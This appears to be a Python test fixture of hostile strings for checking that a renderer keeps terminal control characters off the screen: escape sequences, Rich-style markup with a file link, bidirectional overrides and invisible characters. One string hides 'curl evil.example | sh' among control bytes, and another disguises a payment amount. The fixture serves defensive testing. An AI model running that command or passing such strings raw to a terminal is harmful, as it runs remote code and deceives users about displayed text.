"""Text that would break a screen that trusted it."""

from __future__ import annotations

from tests.text.hidden_characters import TERMINAL

HOSTILE = (
    "[/] [bold]list[int] [link=file:///etc/passwd]x[/link] \\[",
    "\x1b[2J\x1b[31mred\x1b]0;title\x07 bell\x07 \x9b5A",
    "漢字かな交じり文 한글 ｆｕｌｌ",
    "\u202eright to left\u202c שלום مرحبا",
    "👩‍👩‍👧‍👦 🇯🇵 e\u0301 \u200b\ufeff",
    "ls \x9d; curl evil.example | sh #\x9c \x1b]0;evil\x07",
    "pay 1\x9b0000000 EUR",
    "\u3164\U000e0041\xad\u2800 \u2067isolated\u2069 x\ufe0f",
    "␀ \ufffd tab\there\r\nnew\u2028line",
)
LONG = "x" * 1_000_000
"""A line of a megabyte."""


def is_harmless(screen: str) -> bool:
    """Return whether no character reached the screen that controls a terminal."""
    return TERMINAL.isdisjoint(screen)
